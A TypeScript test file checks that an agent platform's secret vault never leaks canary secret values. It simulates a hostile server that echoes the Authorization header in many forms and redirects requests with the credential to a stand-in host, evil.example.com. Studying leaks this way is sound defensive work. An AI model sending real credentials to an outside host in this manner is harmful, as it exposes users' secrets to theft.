/**
 * Canaries: secrets whose values are known are kept, used, echoed by a hostile server, printed by a
 * program and asked for in every way there is. Then they are looked for everywhere.
 */
import assert from "@std/assert";
import type { Egress } from "../../../supabase/functions/_shared/egress/egress.ts";
import { readEnv } from "../../../supabase/functions/_shared/env.ts";
import { createPlatform } from "../../../supabase/functions/_shared/platform.ts";
import { createSecretKeeper } from "../../../supabase/functions/_shared/vault/reveal.ts";
import { createVault } from "../../../supabase/functions/_shared/vault/vault.ts";
import admin from "../../../supabase/functions/admin/index.ts";
import { createFetchTool } from "../../../supabase/functions/tools/fetch/tool.ts";
import { echoesOf } from "../../fakes/echo.ts";
import {
  answer,
  createInternet,
  type Internet,
  OTHER,
  PUBLIC,
  redirect,
} from "../_shared/egress/internet.ts";
import { as, expect } from "../admin/rig.ts";
import { assertNowhere, canary } from "./canary.ts";
import { onEveryEngine } from "./rig.ts";

const CANARIES = {
  first: canary("first"),
  current: canary("current"),
  own: canary("own"),
  unused: canary("unused"),
};

/** A server that says what it heard, in every way. */
function hostile(): Promise<Internet> {
  return createInternet({
    names: { "api.example.com": [[PUBLIC]], "evil.example.com": [[OTHER]] },
    servers: {
      [`${PUBLIC}:443`]: ({ line, headers }) => {
        const heard = headers.authorization ?? "nothing";
        if (line.includes("/away")) {
          return redirect(`https://evil.example.com/${encodeURIComponent(heard)}`);
        }
        if (line.includes("/broken")) return `HTTP/1.1 999 ${heard}\r\n${heard}\r\n\r\n`;
        return answer(
          [JSON.stringify({ heard }), ...echoesOf(heard)].join("\n"),
          `x-heard: ${heard}\r\nset-cookie: k=${encodeURIComponent(heard)}\r\nx-base: ${
            btoa(heard)
          }\r\n`,
        );
      },
      [`${OTHER}:443`]: ({ headers }) => answer(headers.authorization ?? "nothing"),
    },
  });
}

const PROGRAM = `export default async (_, agent) => {
  const said = [];
  for (const url of [
    "https://api.example.com/echo", "https://api.example.com/away", "https://api.example.com/broken",
    "https://evil.example.com/", "https://api.example.com/own/echo", "https://api.example.com/expired/x",
    "https://api.example.com/missing/x",
  ]) {
    try {
      const reply = await agent.call("fetch", { url });
      console.log(JSON.stringify(reply));
      said.push(JSON.stringify(reply));
    } catch (error) {
      console.error(error.code, error.message, error.stack);
      said.push(url + " " + error.code + " " + error.message);
    }
  }
  return said;
};`;

function rule(path: string, name: string) {
  return { host: "api.example.com", paths: [path], secret: { name } };
}

const POLICY = {
  fetch: {
    rules: [
      rule("/own/**", "OWN"),
      rule("/expired/**", "EXPIRED"),
      rule("/missing/**", "MISSING"),
      rule("/**", "KEY"),
      { host: "evil.example.com", secret: { name: "KEY" } },
    ],
  },
};

/** Keeps the canaries, replaces one, and makes mistakes with them. */
async function keep(ask: ReturnType<typeof as>, agent: string): Promise<string[]> {
  const hosts = ["api.example.com"];
  const draft = { name: "KEY", value: CANARIES.first, hosts };
  const { body: { id } } = await expect(ask("POST", "/admin/secrets", draft), 201);
  const soon = new Date(Date.now() + 5_000).toISOString();
  const answers = await Promise.all([
    ask("PUT", `/admin/secrets/${id}`, { value: CANARIES.current }),
    ask("POST", "/admin/secrets", { name: "OWN", value: CANARIES.own, hosts, agent }),
    ask("POST", "/admin/secrets", {
      name: "EXPIRED",
      value: CANARIES.unused,
      hosts,
      expires_at: soon,
    }),
    ask("POST", "/admin/secrets", { name: "KEY", value: CANARIES.unused, hosts }),
    ask("POST", "/admin/secrets", { name: "bad", value: CANARIES.unused, hosts }),
    ask("POST", "/admin/secrets", {
      name: "BAD",
      value: CANARIES.unused,
      hosts: [CANARIES.unused],
    }),
    ask("POST", "/admin/secrets", { name: "BAD", value: `${CANARIES.unused}\n`, hosts }),
    ask("PUT", `/admin/secrets/${id}`, {
      value: CANARIES.unused,
      expires_at: "2020-01-01T00:00:00Z",
    }),
    ask("GET", `/admin/secrets/${id}`),
    ask("GET", "/admin/secrets"),
  ]);
  assert.deepEqual(answers.map(({ status }) => status), [
    200,
    201,
    201,
    409,
    400,
    400,
    400,
    400,
    200,
    200,
  ]);
  await new Promise((resolve) => setTimeout(resolve, Date.parse(soon) + 50 - Date.now()));
  return answers.map(({ text }) => text);
}

let internet: Internet;
const egress: Egress = {
  isPrivate: (url) => internet.egress.isPrivate(url),
  send: (...request) => internet.egress.send(...request),
};
const env = readEnv();
const platform = createPlatform("tools", env);
const secrets = createSecretKeeper({
  service: platform.service(),
  vault: createVault(env.secrets),
  log: platform.log,
});

onEveryEngine(
  "no value of a secret is in any answer, table, log, event, ledger row, error or export",
  [createFetchTool({ egress, secrets })],
  async (rig) => {
    await using network = internet = await hostile();
    const agent = await rig.agent({ policy: POLICY, source: PROGRAM });
    const answers = await keep(as(rig.owner, admin), agent);
    const { run } = await rig.execute(agent);
    const { heard } = network;
    assert.ok(heard.some(({ headers }) => headers.authorization === `Bearer ${CANARIES.current}`));
    assert.ok(heard.some(({ headers }) => headers.authorization === `Bearer ${CANARIES.own}`));
    assert.equal(run.status, "succeeded", JSON.stringify(run.error));
    for (const { at, headers } of heard) {
      if (at === `${OTHER}:443`) assert.equal(headers.authorization, undefined);
    }
    await assertNowhere(CANARIES, { rig, run, answers });
  },
);
